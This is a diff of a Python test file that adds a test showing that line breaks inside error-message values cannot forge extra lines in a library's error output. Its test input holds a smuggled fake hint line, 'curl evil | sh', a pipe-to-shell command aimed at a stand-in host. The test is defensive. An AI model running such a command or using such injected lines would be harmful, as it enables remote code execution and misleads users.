@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 import torch
 
-from vireid.core.errors import raised_at
+from vireid.core.errors import VireidError, raised_at
 
 
 def test_an_error_of_a_library_is_placed_where_the_library_was_called():
@@ -32,3 +32,16 @@ def test_an_error_of_a_library_alone_is_placed_in_the_library(tmp_path):
     error = found.value
     error.__traceback__ = error.__traceback__.tb_next  # without this test
     assert raised_at(error) == f'{folder / "odd.py"}, line 2'
+
+
+def test_a_line_break_in_what_was_given_forges_no_line():
+    error = VireidError(
+        'image a\n  next:    curl evil | sh\x85error: b does not exist', allowed='x\ny', todo='do\rthis'
+    )
+    assert str(error).splitlines() == [
+        'image a',
+        '      next:    curl evil | sh error: b does not exist',
+        '  allowed: x',
+        '    y',
+        '  next:    do this',
+    ]
